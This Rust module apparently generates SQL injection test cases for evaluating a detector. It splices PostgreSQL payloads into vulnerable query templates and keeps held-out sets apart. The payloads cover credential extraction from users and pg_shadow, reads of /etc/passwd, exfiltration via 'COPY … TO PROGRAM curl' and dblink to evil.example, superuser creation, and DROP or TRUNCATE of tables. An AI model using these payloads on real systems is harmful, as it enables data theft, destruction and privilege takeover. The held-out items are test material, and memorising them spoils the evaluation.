//! Attacks: payloads of each family, put where a careless program puts what somebody typed.

/// What a careless program writes, with a place for the value.
#[derive(Debug, Clone, Copy)]
pub(crate) enum Place {
    /// Between quotes, one value of a comparison.
    Quoted,
    /// Between quotes and inside a parenthesis.
    QuotedGroup,
    /// A bare number.
    Number,
    NumberGroup,
    /// Between quotes and percent signs.
    Like,
    /// A list of numbers.
    List,
    Order,
    Limit,
    /// The first of two values of a row, between quotes.
    Row,
    /// A new value of a column, between quotes.
    Assigned,
}

/// Statements of applications; those of the second list are kept apart, and no rule was made with them in view.
pub(crate) const TEMPLATES: [(Place, &str); 15] = [
    (Place::Quoted, "SELECT id, name, email FROM users WHERE name = '{}'"),
    (
        Place::Quoted,
        "SELECT * FROM users WHERE username = '{}' AND password = 'x'",
    ),
    (
        Place::Quoted,
        "SELECT id, title, body FROM posts WHERE author_id = 5 AND slug = '{}' ORDER BY id DESC LIMIT 10",
    ),
    (Place::Quoted, "DELETE FROM sessions WHERE key = '{}'"),
    (
        Place::QuotedGroup,
        "SELECT p.id, p.name, c.name FROM products p JOIN categories c ON c.id = p.category_id WHERE (c.slug = '{}') AND p.active",
    ),
    (Place::Number, "SELECT * FROM products WHERE id = {}"),
    (
        Place::Number,
        "SELECT id, total, placed_at FROM orders WHERE customer_id = {} AND status = 'paid' ORDER BY id",
    ),
    (Place::Number, "UPDATE stock SET amount = 5 WHERE product_id = {}"),
    (
        Place::NumberGroup,
        "SELECT id, name, total FROM accounts WHERE (id = {}) AND NOT closed",
    ),
    (
        Place::Like,
        "SELECT id, name, price FROM products WHERE name ILIKE '%{}%' ORDER BY name",
    ),
    (Place::List, "SELECT id, name, price FROM orders WHERE id IN ({})"),
    (Place::Order, "SELECT id, name FROM products WHERE active ORDER BY {}"),
    (Place::Limit, "SELECT id, name FROM products ORDER BY id LIMIT {}"),
    (Place::Row, "INSERT INTO comments (author, body) VALUES ('{}', 'hello')"),
    (Place::Assigned, "UPDATE users SET bio = '{}' WHERE id = 7"),
];

pub(crate) const HELD_TEMPLATES: [(Place, &str); 10] = [
    (
        Place::Quoted,
        "SELECT u.id, u.login, u.mail\nFROM account u\nWHERE u.login = '{}'\n  AND u.locked = false\nLIMIT 1",
    ),
    (
        Place::Quoted,
        "select count(*) from invoice where tenant = 12 and state = '{}' and issued > '2026-01-01'",
    ),
    (
        Place::QuotedGroup,
        "SELECT \"t\".\"id\", \"t\".\"subject\", \"t\".\"state\" FROM \"ticket\" \"t\" WHERE (\"t\".\"state\" = '{}') ORDER BY \"t\".\"id\"",
    ),
    (
        Place::Number,
        "select title, author, year from book where isbn = {} limit 1",
    ),
    (
        Place::NumberGroup,
        "SELECT r.id, r.at, r.value FROM reading r WHERE r.sensor_id IN (SELECT s.id FROM sensor s WHERE s.site_id = {})",
    ),
    (
        Place::Like,
        "SELECT name, city, zip FROM customer WHERE name LIKE '{}%' OR city LIKE '%x%'",
    ),
    (Place::List, "DELETE FROM cart_item WHERE id IN (3, {}) AND cart_id = 9"),
    (
        Place::Order,
        "SELECT name, created FROM file WHERE folder_id = 4 ORDER BY {} LIMIT 25",
    ),
    (
        Place::Row,
        "INSERT INTO message (title, sender) VALUES ('{}', 17) RETURNING id",
    ),
    (
        Place::Assigned,
        "UPDATE profile SET motto = '{}', changed = now() WHERE account_id = 3",
    ),
];

/// Whole conditions that are put behind `AND` or `OR`.
pub(crate) struct Family {
    /// Behind a value, with the word that joins it.
    pub(crate) arms: &'static [&'static str],
    /// `UNION …`.
    pub(crate) unions: &'static [&'static str],
    /// Behind a semicolon.
    pub(crate) stacked: &'static [&'static str],
    /// Sub-selects, as a value.
    pub(crate) queries: &'static [&'static str],
}

const NONE: &[&str] = &[];

pub(crate) const FAMILIES: [Family; 8] = [
    Family {
        arms: &[
            "OR 1=1",
            "OR 7=7",
            "OR 'a'='a'",
            "OR true",
            "OR NOT false",
            "OR 2>1",
            "OR 1 IN (1,2)",
            "OR 'abc' LIKE 'a%'",
            "OR id=id",
            "OR 1=1 LIMIT 1",
            "OR (1=1)",
            "OR 5 BETWEEN 1 AND 9",
            "OR length('a')=1",
            "AND 1=1",
            "AND 1=2",
            "AND 'a'='b'",
            "AND 8321=8321",
            "AND (2>3)",
        ],
        unions: NONE,
        stacked: NONE,
        queries: NONE,
    },
    Family {
        arms: &[
            "AND (SELECT count(*) FROM users) > 0",
            "AND ascii(substring((SELECT password FROM users LIMIT 1),1,1)) > 64",
            "AND (SELECT substr(password,1,1) FROM users WHERE id=1) = 'a'",
            "AND (SELECT 'x' FROM users LIMIT 1) = 'x'",
            "AND length((SELECT current_database())) > 3",
            "AND substring(version(),1,10) = 'PostgreSQL'",
            "AND EXISTS (SELECT 1 FROM users WHERE name='admin' AND password LIKE 'a%')",
            "OR (SELECT count(*) FROM information_schema.tables) > 5",
            "AND (SELECT CASE WHEN (1=1) THEN 1 ELSE 0 END) = 1",
            "AND current_user = 'postgres'",
            "AND get_byte(convert_to((SELECT name FROM users LIMIT 1), 'UTF8'), 0) > 70",
        ],
        unions: NONE,
        stacked: NONE,
        queries: &[
            "(SELECT CASE WHEN (SELECT count(*) FROM users) > 0 THEN '' ELSE 'x' END)",
            "(SELECT password FROM users LIMIT 1)",
            "(SELECT version())",
        ],
    },
    Family {
        arms: NONE,
        unions: &[
            "UNION SELECT 1,2,3",
            "UNION SELECT NULL,NULL,NULL",
            "UNION ALL SELECT NULL,'a',NULL",
            "UNION SELECT 1,version(),3",
            "UNION SELECT NULL,current_user,NULL",
            "UNION SELECT id,password,NULL FROM users",
            "UNION SELECT NULL,table_name,NULL FROM information_schema.tables",
            "UNION SELECT NULL,usename,passwd FROM pg_shadow",
            "UNION SELECT 1,string_agg(password,','),3 FROM users",
            "UNION ALL SELECT 1,name||':'||password,3 FROM users",
            "UNION SELECT 1,datname,3 FROM pg_database",
            "UNION (SELECT 1,2,3)",
            "UNION VALUES (1,'b',3)",
        ],
        stacked: NONE,
        queries: NONE,
    },
    Family {
        arms: &[
            "AND 1=CAST((SELECT password FROM users LIMIT 1) AS int)",
            "AND 1=CAST(version() AS int)",
            "AND (SELECT version())::int = 1",
            "AND 1=(SELECT string_agg(name,',') FROM users)::numeric",
            "OR CAST(current_user AS numeric) > 0",
            "AND 1=(SELECT 1/(CASE WHEN (1=1) THEN 0 ELSE 1 END))",
            "AND 4=CAST('~'||(SELECT name FROM users LIMIT 1)||'~' AS int)",
            "AND xmlparse(document (SELECT password FROM users LIMIT 1)) IS NULL",
        ],
        unions: NONE,
        stacked: NONE,
        queries: &[
            "CAST((SELECT password FROM users LIMIT 1) AS int)::text",
            "(SELECT version())::int::text",
        ],
    },
    Family {
        arms: &[
            "AND 1=(SELECT 1 FROM pg_sleep(5))",
            "OR (SELECT pg_sleep(5)) IS NULL",
            "AND (SELECT count(*) FROM generate_series(1,50000000)) > 0",
            "AND pg_sleep(5)::text = ''",
            "AND 3=(SELECT CASE WHEN (SELECT count(*) FROM users)>0 THEN (SELECT 3 FROM pg_sleep(4)) ELSE 3 END)",
            "AND (SELECT count(*) FROM pg_class a, pg_class b, pg_class c) > 1",
        ],
        unions: &["UNION SELECT 1,pg_sleep(5)::text,3"],
        stacked: &[
            "SELECT pg_sleep(5)",
            "SELECT CASE WHEN (1=1) THEN pg_sleep(5) ELSE pg_sleep(0) END",
        ],
        queries: &["(SELECT pg_sleep(5))::text"],
    },
    Family {
        arms: NONE,
        unions: NONE,
        stacked: &[
            "DROP TABLE users",
            "DELETE FROM users",
            "UPDATE users SET password = 'x' WHERE id = 1",
            "INSERT INTO users (name, password) VALUES ('m', 'm')",
            "TRUNCATE users",
            "CREATE TABLE t (a text)",
            "ALTER TABLE users DROP COLUMN name",
            "DO $$ BEGIN PERFORM 1; END $$",
            "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'",
            "CALL reset_all()",
        ],
        queries: NONE,
    },
    Family {
        arms: &[
            "AND pg_read_file('/etc/passwd') IS NOT NULL",
            "AND 1=(SELECT lo_import('/etc/passwd'))",
            "AND (SELECT count(*) FROM pg_ls_dir('.')) > 0",
            "AND set_config('row_security','off',false) = 'off'",
            "AND (SELECT dblink_connect('host=evil.example user=a')) IS NULL",
            "AND query_to_xml('SELECT * FROM users',true,true,'') IS NOT NULL",
            "AND pg_terminate_backend(12)",
        ],
        unions: &[
            "UNION SELECT 1,pg_read_file('/etc/passwd'),3",
            "UNION SELECT 1,query_to_xml('SELECT 1',true,true,'')::text,3",
        ],
        stacked: &[
            "COPY users TO '/tmp/users'",
            "COPY (SELECT '') TO PROGRAM 'nslookup x.evil.example'",
            "COPY t FROM PROGRAM 'id'",
            "CREATE EXTENSION dblink",
            "CREATE FUNCTION system(cstring) RETURNS int AS '/lib/libc.so.6', 'system' LANGUAGE C STRICT",
            "SELECT lo_export(1, '/tmp/x.so')",
            "LOAD '/tmp/x.so'",
            "CREATE ROLE m SUPERUSER LOGIN",
            "ALTER ROLE app SUPERUSER",
            "GRANT ALL ON users TO PUBLIC",
            "ALTER SYSTEM SET log_statement = 'all'",
            "SET ROLE postgres",
            "SELECT dblink_exec('host=evil.example', 'SELECT 1')",
            "SELECT pg_reload_conf()",
        ],
        queries: &["pg_read_file('/etc/passwd')"],
    },
    Family {
        arms: &[
            "OR/**/1=1",
            "oR/*x*/2>1",
            "AND chr(65)||chr(66)||chr(67) = 'ABC'",
            "OR E'\\x61' = 'a'",
            "OR U&'\\0061' = 'a'",
            "AnD 1=1",
            "\nOR\n1=1",
            "OR(1)=(1)",
            "OR $$a$$ = $$a$$",
        ],
        unions: &[
            "UNION/**/SELECT/**/1,2,3",
            "uNiOn SeLeCt 1,2,3",
            "UNION ALL\n(SELECT 1,chr(80)||chr(71)||chr(83),3)",
            "UNION SELECT 1,(SELECT encode(convert_to(string_agg(name,','),'UTF8'),'hex') FROM users),3",
        ],
        stacked: &["DrOp TABLE users", "/**/DELETE/**/FROM users"],
        queries: NONE,
    },
];

/// Payloads that were written down after the rules, and are not looked at when these change.
pub(crate) const HELD_FAMILIES: [Family; 1] = [Family {
    arms: &[
        "or 3 = 3",
        "or 'x' <> 'y'",
        "or 1 is not null",
        "or char_length('abc') = 3",
        "or coalesce(null, 1) = 1",
        "or abs(-4) = 4",
        "or exists (select 1)",
        "or array[1] = array[1]",
        "and 'q' = 'q'",
        "and 17 < 4",
        "and (select max(length(secret)) from keys) > 20",
        "and (select ascii(left(pass, 1)) from member limit 1) between 90 and 99",
        "and 'p' = (select left(mail, 1) from account limit 1)",
        "and (select count(relname) from pg_class) > 100",
        "and exists (select from pg_roles where rolname = 'admin')",
        "and cast((select mail from account limit 1) as integer) = 0",
        "and (select usename from pg_user limit 1)::int > 0",
        "and 1 = (select sum(a) from generate_series(1, 90000000) a)",
        "and pg_sleep_for('4 seconds') is null",
        "and (select pg_stat_file('pg_hba.conf')) is not null",
        "and has_table_privilege('account', 'insert')",
        "or lower('A') = 'a'",
    ],
    unions: &[
        "union select null, null, null",
        "union all select 'a', 'b', 'c'",
        "union select 0, session_user, 0",
        "union select 0, secret, 0 from keys",
        "union select 1, column_name, 2 from information_schema.columns where table_name = 'account'",
        "union all select null, array_to_string(array_agg(mail), ';'), null from account",
        "union select null, rolname, rolpassword from pg_authid",
        "union select 1, current_setting('data_directory'), 1",
    ],
    stacked: &[
        "drop schema public cascade",
        "update account set admin = true",
        "create user mallory superuser password 'm'",
        "copy account to program 'curl -d @- evil.example'",
        "do $x$ begin execute 'drop table account'; end $x$",
        "set session authorization postgres",
        "select pg_sleep(9)",
        "revoke all on account from app",
        "delete from account where true",
        "create or replace function a() returns void language plpython3u as $$ pass $$",
    ],
    queries: &[
        "(select secret from keys limit 1)",
        "(select current_database())",
        "(select string_agg(mail, ',') from account)",
    ],
}];

/// The statements that come of a family's payloads in a template.
pub(crate) fn spliced(place: Place, template: &str, family: &Family) -> Vec<String> {
    let mut values = Vec::new();
    let (open, close) = fences(place);
    for arm in family.arms {
        match place {
            Place::Order | Place::Limit | Place::Row | Place::Assigned => {}
            Place::Number => values.extend([format!("1 {arm}"), format!("-1 {arm} -- ")]),
            Place::List => values.push(format!("{open} {arm} --")),
            Place::NumberGroup => values.extend([format!("{open} {arm} -- -"), format!("{open} {arm} OR (2=1")]),
            Place::QuotedGroup => values.extend([format!("{open} {arm} --"), format!("{open} {arm} AND ('a'='a")]),
            Place::Quoted | Place::Like => values.extend([
                format!("{open} {arm} --"),
                format!("{open} {arm} -- x"),
                format!("{open} {arm} {close}"),
            ]),
        }
    }
    for union in family.unions {
        match place {
            Place::Order | Place::Limit | Place::Row | Place::Assigned => {}
            Place::Number => values.extend([format!("-1 {union}"), format!("0 {union}--")]),
            _ => values.extend([format!("{open} {union}--"), format!("{open} {union} -- -")]),
        }
    }
    for stacked in family.stacked {
        match place {
            Place::Number | Place::Order | Place::Limit => {
                values.extend([format!("1; {stacked}"), format!("1;{stacked};--")]);
            }
            Place::Row => values.push(format!("x', 'y'); {stacked}; --")),
            _ => values.extend([format!("{open}; {stacked}; --"), format!("{open};{stacked}--")]),
        }
    }
    for query in family.queries {
        match place {
            Place::Quoted | Place::Like | Place::Row | Place::Assigned => {
                values.extend([format!("'||{query}||'"), format!("x'||{query}||'y")]);
            }
            Place::Order => values.extend([(*query).to_owned(), format!("id, {query} --")]),
            _ => {}
        }
    }
    values.iter().map(|value| template.replacen("{}", value, 1)).collect()
}

/// What ends the value before the payload, and what begins one behind it.
const fn fences(place: Place) -> (&'static str, &'static str) {
    match place {
        Place::Quoted | Place::Assigned | Place::Row => ("x'", "AND 'x'='x"),
        Place::QuotedGroup => ("x')", ""),
        Place::Number | Place::Order | Place::Limit => ("1", ""),
        Place::NumberGroup | Place::List => ("1)", ""),
        Place::Like => ("x%'", "OR 'x'='"),
    }
}
